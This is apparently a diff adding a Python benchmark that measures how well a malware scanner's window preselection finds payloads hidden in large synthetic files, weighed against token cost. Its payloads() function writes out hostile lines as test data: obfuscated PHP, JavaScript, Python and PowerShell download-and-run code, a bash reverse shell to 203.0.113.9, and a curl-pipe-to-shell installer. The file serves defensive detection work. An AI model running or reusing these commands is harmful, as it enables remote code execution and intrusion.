@@ -0,0 +1,145 @@
+"""
+Coverage versus cost of suspicious-window preselection. Builds synthetic
+scripts (code, prose, config, benign base64 images and hash lists as
+decoys), hides a payload somewhere past the first window and checks, for
+each token budget, how often a window sent to the model contains it and
+how many tokens that costs. Budget "head" is the old behaviour (first
+8000 bytes only); "all" is sending every window.
+
+    cd backend && python -m benchmarks.window_coverage --files 200 --size 1m
+"""
+import io
+import os
+import sys
+import json
+import time
+import random
+import base64
+import argparse
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from benchmarks.suite import parse_size
+
+BENIGN_LINES = [
+    "def handle_{n}(request, user_id):\n    record = db.get(user_id)\n    return render(request, 'page_{n}.html', record)\n",
+    "const item{n} = items.filter(x => x.id === {n}).map(x => ({{...x, seen: true}}));\n",
+    "# Returns the cached value for key {n}, refreshing it when stale.\n",
+    "for (let i = 0; i < rows.length; i++) {{ total += rows[i].amount * {n}; }}\n",
+    "    logger.info('processed %d records in batch {n}', count)\n",
+    "The quarterly report for region {n} shows steady growth in subscriptions and lower churn.\n",
+    "server_{n}:\n  host: 10.0.{n}.1\n  port: 8080\n  retries: 3\n",
+    "    if response.status_code != 200:\n        raise RuntimeError('upstream {n} failed')\n",
+    "import os\nimport json\nfrom pathlib import Path\n",
+    "    subprocess.run(['git', 'status'], check=True)  # developer helper {n}\n",
+]
+
+
+def benign_text(rng, size):
+    out = []
+    total = 0
+    while total < size:
+        roll = rng.random()
+        if roll < 0.002:
+            # Decoy: embedded image as a data URI
+            line = "logo = 'data:image/png;base64," + base64.b64encode(rng.randbytes(rng.randint(600, 3000))).decode() + "'\n"
+        elif roll < 0.004:
+            # Decoy: a list of file hashes
+            line = "".join(f"    '{rng.randbytes(32).hex()}',\n" for _ in range(rng.randint(5, 40)))
+        else:
+            line = rng.choice(BENIGN_LINES).format(n=rng.randint(0, 999))
+        out.append(line)
+        total += len(line)
+    return "".join(out)[:size]
+
+
+def payloads(rng):
+    blob = base64.b64encode(b"system('curl http://203.0.113.9/x | sh');" * 8).decode()
+    return {
+        "php_eval_b64": f"<?php eval(base64_decode('{blob}')); ?>\n",
+        "js_charcode": "eval(String.fromCharCode(" + ",".join(str(rng.randint(60, 122)) for _ in range(300)) + "));\n",
+        "powershell_enc": "powershell.exe -nop -w hidden -enc " + base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")).decode() + "\n",
+        "python_exec": f"exec(__import__('base64').b64decode('{blob}'))\n",
+        "bash_reverse_shell": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
+        "curl_pipe_sh": "curl -s http://203.0.113.9/install | sh && chmod +x /tmp/.x && /tmp/.x\n",
+    }
+
+
+def tokens(windows, bytes_per_token, prompt_tokens):
+    return sum(w.length // bytes_per_token + prompt_tokens for w in windows)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--files", type=int, default=200, help="files per payload kind")
+    parser.add_argument("--size", default="1m")
+    parser.add_argument("--budgets", default="4500,9000,18000,36000")
+    parser.add_argument("--seed", type=int, default=7)
+    args = parser.parse_args()
+
+    from app.services.window_service import WindowService, BYTES_PER_TOKEN, PROMPT_TOKENS
+
+    rng = random.Random(args.seed)
+    size = parse_size(args.size)
+    budgets = ["head"] + [int(b) for b in args.budgets.split(",")] + ["all"]
+    kinds = payloads(rng)
+    stats = {str(b): {"covered": 0, "files": 0, "tokens": 0, "clean_tokens": 0, "clean_files": 0} for b in budgets}
+    per_kind = {name: {str(b): 0 for b in budgets} for name in kinds}
+    scored_bytes = 0
+    scoring_s = 0.0
+
+    scorer = WindowService()
+    for name, payload in list(kinds.items()) + [("clean", None)]:
+        for _ in range(args.files):
+            text = benign_text(rng, size)
+            if payload:
+                # Past the first window, on a line boundary
+                at = text.index("\n", rng.randint(scorer.window_bytes, size - len(payload) - 1)) + 1
+                text = text[:at] + payload + text[at:]
+                span = (len(text[:at].encode()), len(text[:at].encode()) + len(payload.encode()))
+            data = text.encode()
+            t = time.perf_counter()
+            windows = scorer.score(io.BytesIO(data))
+            scoring_s += time.perf_counter() - t
+            scored_bytes += len(data)
+
+            for budget in budgets:
+                if budget == "head":
+                    chosen = windows[:1]
+                elif budget == "all":
+                    chosen = windows
+                else:
+                    chosen = WindowService(token_budget=budget).select(windows)
+                s = stats[str(budget)]
+                if payload is None:
+                    s["clean_files"] += 1
+                    s["clean_tokens"] += tokens(chosen, BYTES_PER_TOKEN, PROMPT_TOKENS)
+                    continue
+                s["files"] += 1
+                s["tokens"] += tokens(chosen, BYTES_PER_TOKEN, PROMPT_TOKENS)
+                if any(w.offset <= span[0] < w.offset + w.length for w in chosen):
+                    s["covered"] += 1
+                    per_kind[name][str(budget)] += 1
+
+    report = {
+        "file_size": size,
+        "windows_per_file": -(-size // scorer.window_bytes),
+        "scoring_mb_s": round(scored_bytes / scoring_s / 1e6, 1),
+        "budgets": {
+            budget: {
+                "coverage": round(s["covered"] / s["files"], 3),
+                "tokens_per_infected_file": round(s["tokens"] / s["files"]),
+                "tokens_per_clean_file": round(s["clean_tokens"] / s["clean_files"])
+            }
+            for budget, s in stats.items()
+        },
+        "coverage_by_payload": {
+            name: {budget: round(hits / args.files, 2) for budget, hits in by_budget.items()}
+            for name, by_budget in per_kind.items()
+        }
+    }
+    print(json.dumps(report, indent=2))
+
+
+if __name__ == "__main__":
+    main()